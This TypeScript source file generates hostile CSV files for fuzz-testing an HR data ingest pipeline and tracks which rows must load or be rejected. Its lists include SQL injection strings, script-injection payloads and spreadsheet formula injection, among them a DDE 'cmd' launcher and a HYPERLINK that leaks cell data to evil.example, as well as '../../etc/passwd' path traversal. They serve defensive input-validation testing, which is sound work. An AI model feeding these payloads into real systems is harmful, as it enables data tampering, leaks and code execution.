/**
 * Generators of hostile CSV files for the ingest fuzz tests, with the truth about every row known by
 * construction: each data row is either valid (it must load) or broken in one known way (it must be
 * rejected and listed in the report at its line). Everything is generated from a plan (plain data
 * from fast-check) so that failures shrink to a small reproducible file.
 */
import fc from 'fast-check';
import { EMPLOYERS, HIRES, normaliseHeader, TRAINING, type ColumnSpec, type TableKind, type TableSpec } from '../../src/ingest/contract';

// ------------------------------------------------------------------------------------------------
// Cell values

/** Strings meant to break something: SQL, HTML, spreadsheets, our own internal names, encodings. */
export const HOSTILE = [
  '"; DROP TABLE hires; --',
  "'; DROP TABLE employers; --",
  "Robert'); DROP TABLE training;--",
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  'javascript:alert(1)',
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'a\0b',
  '\0',
  '\\',
  '\\"',
  "''",
  '""',
  '${7*7}',
  '{{7*7}}',
  '%s%n%x',
  '../../etc/passwd',
  '/data/other.csv',
  '\u202Egnp.exe',
  '\uFEFFbom',
  'x\u2028y',
  '😀🙈',
  'NULL',
  'null',
  'NaN',
  '__ler_errors',
  '__ler_record',
  '__ler_key_seen',
  '__ler_key_loaded',
  '__ler_employer_known',
  '__ler_raw_0',
  '__LER_RAW_1',
  'rowid',
  'column_2',
  'SELECT',
  ' ',
  '',
] as const;

/** Characters that matter to CSV, SQL and spreadsheets, to build short nasty strings from. */
const NASTY_CHARS = ['"', "'", ',', ';', '\t', '|', '\n', '\r', '\r\n', '\0', '=', '+', '-', '@', ' ', 'a', '\\', '\uFEFF', 'é', '😀'];

export const text = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: 'binary', maxLength: 16 }) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 2, arbitrary: fc.string({ unit: fc.constantFrom(...NASTY_CHARS), maxLength: 10 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 12 }) },
);

/**
 * A text that the ingest keeps as it is. Keys are trimmed by DuckDB's trim(), which removes exactly the
 * Unicode space separators (category Zs: U+0020, U+00A0, U+2000–U+200A, U+3000, …), so none may end one.
 */
const keySuffix = fc.oneof(
  fc.constant(''),
  text.map((t) => `-${t.replace(/\p{Zs}+$/u, '')}`),
);

const cased = (word: string) => fc.constantFrom(word, word.toUpperCase(), word[0]?.toUpperCase() + word.slice(1));
const padded = (a: fc.Arbitrary<string>) =>
  fc.tuple(a, fc.constantFrom('', ' ', '  '), fc.constantFrom('', ' ')).map(([v, l, r]) => `${l}${v}${r}`);

const boolText = padded(fc.constantFrom('true', 't', 'yes', 'y', '1', 'false', 'f', 'no', 'n', '0').chain(cased));

/** Numbers from 0 to a trillion, written the ways the contract allows (currency sign, thousands separators, exponents). */
const numberText = fc.oneof(
  fc.constantFrom(
    '0',
    '12',
    '12.5',
    '.5',
    '5.',
    '+7',
    '1e3',
    '1E-3',
    '$1,234.56',
    '1 000',
    '1e12',
    '$1,000,000,000,000',
    '0.0000001',
    '5e-324',
    '-0',
    '$0',
  ),
  fc.double({ min: 0, max: 1e12, noNaN: true }).map(String),
  fc.nat().map((n) => `$${n.toLocaleString('en-US')}`),
);

// Dates: any day from 0001-01-01 to 9999-12-31, written ISO, M/D/YYYY or D.M.YYYY.
const MS_PER_DAY = 86_400_000;
export const FIRST_DAY = new Date(0).setUTCFullYear(1, 0, 1) / MS_PER_DAY;
export const LAST_DAY = Date.UTC(9999, 11, 31) / MS_PER_DAY;
const MAX_GAP = 2_000;

function ymd(day: number): [number, number, number] {
  const d = new Date(day * MS_PER_DAY);
  return [d.getUTCFullYear(), d.getUTCMonth() + 1, d.getUTCDate()];
}
const pad = (n: number, width: number) => String(n).padStart(width, '0');
export const isoDay = (day: number) => {
  const [y, m, d] = ymd(day);
  return `${pad(y, 4)}-${pad(m, 2)}-${pad(d, 2)}`;
};
function formatDay(day: number, format: number): string {
  const [y, m, d] = ymd(day);
  switch (format % 5) {
    case 0:
      return isoDay(day);
    case 1:
      return `${pad(y, 4)}-${m}-${d}`;
    case 2:
      return `${m}/${d}/${pad(y, 4)}`;
    case 3:
      return `${pad(m, 2)}/${pad(d, 2)}/${pad(y, 4)}`;
    default:
      return `${d}.${m}.${pad(y, 4)}`;
  }
}

/** Where a chain of ordered dates starts: mostly recent years, sometimes at either end of the calendar. */
const baseDay = fc.oneof(
  { weight: 6, arbitrary: fc.integer({ min: Date.UTC(2015, 0, 1) / MS_PER_DAY, max: Date.UTC(2026, 0, 1) / MS_PER_DAY }) },
  { weight: 1, arbitrary: fc.integer({ min: FIRST_DAY, max: FIRST_DAY + 400 }) },
  { weight: 1, arbitrary: fc.integer({ min: LAST_DAY - 4 * MAX_GAP - 400, max: LAST_DAY - 4 * MAX_GAP }) },
  { weight: 1, arbitrary: fc.integer({ min: FIRST_DAY, max: LAST_DAY - 4 * MAX_GAP }) },
);
const gap = fc.oneof(fc.constant(0), fc.integer({ min: 0, max: 90 }), fc.integer({ min: 0, max: MAX_GAP }));
const anyDay = fc.oneof(baseDay, fc.constantFrom(FIRST_DAY, LAST_DAY));

// Values that break a rule, by column type. None is a slash date with a first part over 12 and a
// second part of 12 or less, which could make the column read day-first and change the valid rows.
const BAD_DATES = [
  '2023-02-30',
  '2024-13-01',
  '2024-00-10',
  '2024-01-32',
  '02/30/2024',
  '13/45/2024',
  '31.02.2024',
  '10000-01-01',
  '999-01-01',
  'yesterday',
  '2024/01/01',
  '=TODAY()',
  '<img src=x onerror=alert(1)>',
  '0000-00-00',
  '2024-01-01T00:00:00',
  '1.1.24',
  '\0',
  '2024-01-01; DROP TABLE hires',
];
const BAD_BOOLS = ['maybe', '2', 'truee', 'ja', '=TRUE()', 'yes please', '-1', 'NULL', '✓', '\0', "' OR '1'='1"];
const BAD_NUMBERS = [
  'NaN',
  'nan',
  'Infinity',
  '-inf',
  'inf',
  '1e309',
  '-1e309',
  '12abc',
  '1.2.3',
  '--5',
  '0x10',
  '=1+1',
  '1e',
  '$',
  '-1',
  '-0.01',
  '-1e308',
  '$-5',
  '(5)',
  '5%',
  '١٢',
  'NULL',
  '\0',
  '+-1',
  '1e+',
  '.',
  'e5',
  '-1.7976931348623157e308',
  '1e308',
  '1.7976931348623157e308',
  '1000000000000.01',
  '$1,000,000,000,001',
];
const BAD_ALLOWED = ['huge', '1-50', '1000', '50 - 249', '=1-49', 'fired', 'quit', 'voluntarily', '<b>other</b>', '\0'];

// ------------------------------------------------------------------------------------------------
// Rows

/** How a row is broken, or 'valid'. Whole-row kinds break the CSV itself; the others break a rule. */
export type RowKind =
  | 'valid'
  | 'missing-required'
  | 'bad-value'
  | 'date-order'
  | 'duplicate-key'
  | 'unknown-employer'
  | 'too-many-fields'
  | 'too-few-fields'
  | 'junk-after-quote'
  | 'invalid-utf8';

const ROW_KINDS: readonly RowKind[] = [
  'missing-required',
  'bad-value',
  'date-order',
  'duplicate-key',
  'unknown-employer',
  'too-many-fields',
  'too-few-fields',
  'junk-after-quote',
  'invalid-utf8',
];

export interface RowPlan {
  kind: RowKind;
  /** A valid text for every column of the table (dates chained in order), before any breaking. */
  texts: Record<string, string>;
  /** Values of the extra columns. */
  extras: string[];
  keySuffix: string;
  keyPad: string;
  /** Which employer a hire or enrollment belongs to (an index into the valid employers). */
  employer: number;
  /** Picks which column or value the breaking uses. */
  pick: number;
  pick2: number;
}

function dateChain(spec: TableSpec): fc.Arbitrary<Record<string, string>> {
  const formats = fc.array(fc.nat(4), { minLength: 5, maxLength: 5 });
  if (spec.kind === 'hires') {
    return fc
      .record({ base: baseDay, gaps: fc.array(gap, { minLength: 4, maxLength: 4 }), formats })
      .map(({ base, gaps: [g1 = 0, g2 = 0, g3 = 0, g4 = 0], formats: f }) => {
        const offer = base + g1;
        const started = offer + g2;
        return {
          requisition_opened_on: formatDay(base, f[0] ?? 0),
          applied_on: formatDay(Math.max(FIRST_DAY, offer - g4), f[1] ?? 0),
          offer_accepted_on: formatDay(offer, f[2] ?? 0),
          started_on: formatDay(started, f[3] ?? 0),
          separated_on: formatDay(started + g3, f[4] ?? 0),
        };
      });
  }
  if (spec.kind === 'training') {
    return fc.record({ base: baseDay, g: gap, promoted: anyDay, formats }).map(({ base, g, promoted, formats: f }) => ({
      started_on: formatDay(base, f[0] ?? 0),
      completed_on: formatDay(base + g, f[1] ?? 0),
      promoted_on: formatDay(promoted, f[2] ?? 0),
    }));
  }
  return fc.record({ day: anyDay, format: fc.nat(4) }).map(({ day, format }) => ({ ler_adopted_on: formatDay(day, format) }));
}

function validText(column: ColumnSpec): fc.Arbitrary<string> {
  if (column.type === 'bool') return boolText;
  if (column.type === 'number') return padded(numberText);
  if (column.allowed) return padded(fc.constantFrom(...column.allowed).chain((a) => cased(a)));
  return text;
}

function rowPlan(spec: TableSpec, extras: number, invalidShare: number, values: ValuePools): fc.Arbitrary<RowPlan> {
  const others = Object.fromEntries(spec.columns.filter((c) => c.type !== 'date').map((c) => [c.name, values[c.name] ?? validText(c)]));
  return fc.record({
    kind: fc.oneof(
      { weight: Math.round(100 * (1 - invalidShare)), arbitrary: fc.constant<RowKind>('valid') },
      { weight: Math.round(100 * invalidShare), arbitrary: fc.constantFrom(...ROW_KINDS) },
    ),
    texts: fc.tuple(fc.record(others), dateChain(spec)).map(([a, b]) => ({ ...a, ...b })),
    extras: fc.array(text, { minLength: extras, maxLength: extras }),
    keySuffix,
    keyPad: fc.constantFrom('', ' ', '  '),
    employer: fc.nat(),
    pick: fc.nat(),
    pick2: fc.nat(),
  });
}

// ------------------------------------------------------------------------------------------------
// Files

export interface FilePlan {
  kind: TableKind;
  delimiter: string;
  newline: string;
  bom: boolean;
  quoteAll: boolean;
  trailingNewline: boolean;
  /** Optional columns present, in contract order. */
  optional: boolean[];
  /** How each contract header is spelt: its name in another case, with spaces, and so on. */
  spellings: number[];
  /** A shuffle of the columns. */
  order: number[];
  /** Extra columns: their headers. */
  extraHeaders: string[];
  /** Contract columns repeated as extra columns (by index into the present columns). */
  repeats: number[];
  rows: RowPlan[];
  /** The last row opens a quote it never closes. */
  unterminatedLast: boolean;
  /** One valid row gets a 1 MB field. */
  bigField: boolean;
  /** Blank lines before the header. */
  leadingBlank: number;
  name: string;
}

export const SPECS: Record<TableKind, TableSpec> = { employers: EMPLOYERS, hires: HIRES, training: TRAINING };
const CONTRACT_NAMES = new Set([EMPLOYERS, HIRES, TRAINING].flatMap((t) => t.columns.map((c) => c.name)));

/** Column names of the other tables (and short names SQL aliases use), which a file may well carry as extra columns. */
const CLASHING = [...CONTRACT_NAMES, 'e', 'E', 'h', 't', 'u', 'x', 'line', 'column', 'value', 'reason', 'boundary', 'grp', 'day', 'n'];

/**
 * An extra header that stays an extra column: never a column of its own table once normalised, nor
 * the key of another table (which would make the file that table).
 */
function extraHeader(kind: TableKind): fc.Arbitrary<string> {
  const own = new Set(SPECS[kind].columns.map((c) => c.name));
  const keys = new Set([EMPLOYERS, HIRES, TRAINING].map((t) => t.key));
  return fc
    .oneof(text, fc.constantFrom(...HOSTILE), fc.constantFrom(...CLASHING))
    .filter((h) => !own.has(normaliseHeader(h)) && !keys.has(normaliseHeader(h)));
}

/** Valid values to draw a column's cells from instead of the defaults, e.g. a few person ids so that hires and training link up. */
export type ValuePools = Partial<Record<string, fc.Arbitrary<string>>>;

export interface FileOptions {
  minRows: number;
  maxRows: number;
  /** Share of rows that are broken. */
  invalidShare?: number;
  maxExtras?: number;
  values?: ValuePools;
}

export function filePlan(
  kind: TableKind,
  { minRows, maxRows, invalidShare = 0.3, maxExtras = 4, values = {} }: FileOptions,
): fc.Arbitrary<FilePlan> {
  const spec = SPECS[kind];
  const optionalCount = spec.columns.filter((c) => !c.required).length;
  return fc.integer({ min: 0, max: maxExtras }).chain((extras) =>
    fc.record({
      kind: fc.constant(kind),
      delimiter: fc.constantFrom(',', ',', ';', '\t', '|'),
      newline: fc.constantFrom('\n', '\r\n', '\r'),
      bom: fc.boolean(),
      quoteAll: fc.boolean(),
      trailingNewline: fc.boolean(),
      optional: fc.array(fc.boolean(), { minLength: optionalCount, maxLength: optionalCount }),
      spellings: fc.array(fc.nat(4), { minLength: spec.columns.length, maxLength: spec.columns.length }),
      order: fc.array(fc.nat(), { minLength: spec.columns.length + extras, maxLength: spec.columns.length + extras }),
      extraHeaders: fc.array(extraHeader(kind), { minLength: extras, maxLength: extras }),
      repeats: fc.array(fc.nat(), { maxLength: 2 }),
      rows: fc.array(rowPlan(spec, extras + 2, invalidShare, values), { minLength: minRows, maxLength: maxRows }),
      unterminatedLast: fc.nat(3).map((n) => n === 0),
      bigField: fc.nat(19).map((n) => n === 0),
      leadingBlank: fc.oneof({ weight: 8, arbitrary: fc.constant(0) }, { weight: 1, arbitrary: fc.integer({ min: 1, max: 2 }) }),
      name: fc.oneof(
        fc.constant(`${kind}.csv`),
        text.map((t) => `${t}.csv`),
        fc.constantFrom(
          '"; DROP TABLE hires; --.csv',
          "'); DROP TABLE employers; --.csv",
          '<img src=x onerror=alert(1)>.csv',
          '../../etc/passwd',
        ),
      ),
    }),
  );
}

/** What a generated file must do to the tables, worked out while writing it. */
export interface GeneratedFile {
  file: File;
  kind: TableKind;
  /** The file's name as stored in the rejection log (SQL literals drop NUL bytes). */
  loggedName: string;
  records: number;
  validKeys: string[];
  /** Lines of the rows that must be rejected, counting records (a quoted line break does not start a line). */
  invalidLines: number[];
  /** Headers of the file, as written (for the quoting check). */
  headers: string[];
}

const ENCODER = new TextEncoder();
const INVALID_UTF8 = [
  new Uint8Array([0xff, 0xfe]),
  new Uint8Array([0xc3, 0x28]),
  new Uint8Array([0xe2, 0x82]),
  new Uint8Array([0xed, 0xa0, 0x80]),
];

function spell(name: string, style: number): string {
  switch (style % 5) {
    case 1:
      return name.toUpperCase();
    case 2:
      return ` ${name} `;
    case 3:
      return name.replaceAll('_', ' ').replace(/\b\w/g, (c) => c.toUpperCase());
    default:
      return name;
  }
}

/** Turns a plan into bytes and the truth about them. `employerKeys` are the keys of employers that will be loaded. */
export function writeFile(plan: FilePlan, employerKeys: readonly string[], seq: number): GeneratedFile {
  const spec = SPECS[plan.kind];
  let optionalIndex = 0;
  const present = spec.columns.filter((c) => c.required || plan.optional[optionalIndex++]);
  const hasColumn = (name: string) => present.some((c) => c.name === name);
  // Columns in file order: contract columns and extras shuffled, then repeats after their originals.
  type Col = { header: string; contract: ColumnSpec | null; extra: number };
  const cols: Col[] = [
    ...present.map((c) => ({ header: spell(c.name, plan.spellings[spec.columns.indexOf(c)] ?? 0), contract: c, extra: -1 })),
    ...plan.extraHeaders.map((h, i) => ({ header: h, contract: null, extra: i })),
  ];
  const keyed = cols.map((c, i) => ({ c, k: plan.order[i] ?? 0 }));
  keyed.sort((a, b) => a.k - b.k);
  const ordered = keyed.map((x) => x.c);
  plan.repeats.forEach((r, i) => {
    const original = present[r % present.length] as ColumnSpec;
    ordered.push({ header: original.name, contract: null, extra: plan.extraHeaders.length + i });
  });
  if (ordered.length < 2) ordered.push({ header: 'note', contract: null, extra: plan.extraHeaders.length + 1 });

  const delimiter = plan.delimiter;
  const mustQuote = /[",;\t|\r\n]/;
  const field = (value: string, force = plan.quoteAll) => (force || mustQuote.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
  const chunks: Uint8Array[] = [];
  const put = (s: string) => chunks.push(ENCODER.encode(s));

  const prefix = { employers: 'E', hires: 'H', training: 'T' }[plan.kind];
  const validKeys: string[] = [];
  const invalidLines: number[] = [];
  const validRawKeys: string[] = [];
  const dateColumns = present.filter((c) => c.type === 'date');
  const headers = ordered.map((c) => c.header);

  if (plan.bom) put('\uFEFF');
  put(plan.newline.repeat(plan.leadingBlank));
  put(headers.map((h) => field(h)).join(delimiter));

  plan.rows.forEach((row, r) => {
    const line = plan.leadingBlank + r + 2;
    const last = r === plan.rows.length - 1;
    const key = `${prefix}${seq}x${r}${row.keySuffix}`;
    const cells = new Map<string, string>(Object.entries(row.texts));
    cells.set(spec.key, `${row.keyPad}${key}`);
    if (spec.referencesEmployers)
      cells.set('employer_id', `${row.keyPad}${employerKeys[row.employer % Math.max(1, employerKeys.length)] ?? 'NO-EMPLOYER'}`);
    if (plan.kind === 'training') cells.set('program', `P${row.texts.program ?? ''}`);

    // Break the row as planned, if the file has what that needs; otherwise it stays valid.
    let kind = row.kind;
    // Without a loaded employer, no hire or enrollment can be valid.
    if (kind === 'valid' && spec.referencesEmployers && employerKeys.length === 0) kind = 'unknown-employer';
    const choose = <T>(items: readonly T[], pick = row.pick): T | undefined => items[pick % Math.max(1, items.length)];
    if (kind === 'missing-required') {
      const column = choose(present.filter((c) => c.required));
      if (column) cells.set(column.name, choose(['', ' ', '  '], row.pick2) ?? '');
    } else if (kind === 'bad-value') {
      const column = choose(present.filter((c) => c.type !== 'text' || c.allowed));
      if (!column) kind = 'valid';
      else {
        const bad =
          column.type === 'date' ? BAD_DATES : column.type === 'bool' ? BAD_BOOLS : column.type === 'number' ? BAD_NUMBERS : BAD_ALLOWED;
        cells.set(column.name, choose(bad, row.pick2) ?? 'x');
      }
    } else if (kind === 'date-order') {
      const rule = choose(spec.dateOrder.filter((o) => hasColumn(o.earlier) && hasColumn(o.later)));
      if (!rule) kind = 'valid';
      else {
        const day = Date.UTC(2020, 0, 1) / MS_PER_DAY + (row.pick2 % 1000);
        // Put every date of the row before the rule's earlier date, which is set after them all.
        for (const c of dateColumns) cells.set(c.name, isoDay(day - 1 - (row.pick2 % 7)));
        cells.set(rule.earlier, isoDay(day));
      }
    } else if (kind === 'duplicate-key') {
      const earlier = choose(validRawKeys);
      if (earlier === undefined) kind = 'valid';
      else cells.set(spec.key, earlier);
    } else if (kind === 'unknown-employer') {
      if (!spec.referencesEmployers) kind = 'valid';
      else cells.set('employer_id', `NOPE${seq}x${r}`);
    }

    // The row's fields, in file order.
    const values = ordered.map((c) => (c.contract ? (cells.get(c.contract.name) ?? '') : (row.extras[c.extra] ?? '')));
    if (plan.bigField && kind === 'valid' && r === 0) {
      const i = ordered.findIndex((c) => !c.contract);
      if (i >= 0) values[i] = `big "field", with\nline breaks; ${'x'.repeat(1 << 20)}`;
    }
    let fields = values.map((v) => field(v));
    const rowChunks: Uint8Array[] = [];
    // Extra fields with something in them: DuckDB accepts empty trailing fields, which lose nothing.
    if (kind === 'too-many-fields') fields.push(...Array.from({ length: 1 + (row.pick2 % 3) }, (_, i) => field(`x${row.extras[i] ?? ''}`)));
    else if (kind === 'too-few-fields') {
      fields = fields.slice(0, -1 - (row.pick2 % Math.max(1, fields.length - 1)));
      // A row cut to nothing but blanks would be a blank line, which readers skip; keep something.
      if (fields.join('').trim() === '') fields[0] = 'cut';
    } else if (kind === 'junk-after-quote') {
      const i = row.pick2 % fields.length;
      fields[i] = `"${(values[i] ?? '').replaceAll('"', '""')}"junk`;
    }
    let textLine = fields.join(delimiter);
    if (kind === 'invalid-utf8') {
      // Bytes that are not UTF-8 in the middle of one unquoted field.
      const i = row.pick2 % fields.length;
      rowChunks.push(
        ENCODER.encode([...fields.slice(0, i), 'x'].join(delimiter)),
        choose(INVALID_UTF8, row.pick2) ?? new Uint8Array([0xff]),
      );
      textLine = ['y', ...fields.slice(i + 1)].join(delimiter);
    }
    const unterminated = last && plan.unterminatedLast;
    if (unterminated) {
      kind = 'junk-after-quote';
      rowChunks.length = 0;
      textLine = `${fields.slice(0, -1).join(delimiter)}${fields.length > 1 ? delimiter : ''}"never closed\n`;
    }
    put(plan.newline);
    chunks.push(...rowChunks);
    put(textLine);

    if (kind === 'valid') {
      validKeys.push(key);
      validRawKeys.push(cells.get(spec.key) ?? key);
    } else invalidLines.push(line);
  });
  if (plan.trailingNewline && !(plan.unterminatedLast && plan.rows.length > 0)) put(plan.newline);

  const name = `${seq}-${plan.kind}-${plan.name}`;
  return {
    file: new File(chunks as BlobPart[], name, { type: 'text/csv' }),
    kind: plan.kind,
    loggedName: name.replaceAll('\0', ''),
    records: plan.rows.length,
    validKeys,
    invalidLines,
    headers,
  };
}
